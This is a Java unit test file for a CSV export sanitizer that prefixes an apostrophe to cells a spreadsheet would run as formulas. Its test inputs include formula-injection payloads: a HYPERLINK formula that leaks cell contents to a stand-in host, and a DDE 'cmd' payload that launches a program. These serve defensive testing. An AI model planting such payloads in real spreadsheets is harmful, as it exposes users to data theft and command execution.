package io.clientele.gateway.spreadsheet;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.util.Random;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetTest {

  private static final String CHARACTERS = "=+-@\t'\"',;|a1. \uFF1D";

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1+1",
        "-1-1",
        "-",
        "@SUM(A1)",
        "\tx",
        "\r=1",
        "\n=1",
        "=HYPERLINK(\"http://x.example/?\"&A1)",
        "=cmd|'/C calc'!A0",
        "\uFF1D1+1",
        "+49 30 1234",
        "-1,5;x"
      })
  void aCellThatWouldBeRunIsMarkedAsAText(String text) {
    assertThat(SpreadsheetCell.safe(text)).isEqualTo("'" + text);
    assertThat(SpreadsheetCell.meant("'" + text)).isEqualTo(text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"", "c-1", "-1", "+1", "-1.50", "1e5", "-1.2E-7", "+49301234", "-3%", "'s", "a=b"})
  void otherCellsAndNumbersStayWhatTheyAre(String text) {
    assertThat(SpreadsheetCell.safe(text)).isEqualTo(text);
    assertThat(SpreadsheetCell.meant(text)).isEqualTo(text);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      quoteCharacter = '^',
      value = {
        "a,b~=1,x~'=1,x",
        "a,b~x,=1~x,'=1",
        "a,b~\"=1,\"\"=2\"\"\",-5~\"'=1,\"\"=2\"\"\",-5",
        "a;b~=1,2;@x~'=1,2;'@x",
        "a,b~c,\"=never closed~c,\"'=never closed",
        "a,b~,~,",
        "a,b~\"-5\",'=x~\"-5\",''=x"
      })
  void cellsOfALineAreMarkedWhereTheyStand(String header, String line, String safe) {
    assertThat(SpreadsheetLine.like(header).safe(line)).isEqualTo(safe);
  }

  @Test
  void whatIsReadBackIsWhatWasWrittenAndNoCellIsRun() throws IOException {
    Random random = new Random(7);
    CSVFormat format = CSVFormat.DEFAULT;
    for (int i = 0; i < 5_000; i++) {
      String[] cells = {text(random), text(random), text(random)};
      String line = format.format((Object[]) cells);
      String safe = SpreadsheetLine.like("a,b,c").safe(line);
      try (CSVParser parser = CSVParser.parse(safe, format)) {
        String[] read = parser.getRecords().getFirst().values();
        assertThat(read)
            .as(safe)
            .noneMatch(cell -> !cell.startsWith("'") && SpreadsheetCell.isRun(cell))
            .extracting(SpreadsheetCell::meant)
            .containsExactly(cells);
      }
    }
  }

  private static String text(Random random) {
    StringBuilder text = new StringBuilder("x".repeat(random.nextInt(2)));
    for (int i = random.nextInt(6); i >= 0; i--) {
      text.append(CHARACTERS.charAt(random.nextInt(CHARACTERS.length())));
    }
    return text.toString();
  }
}
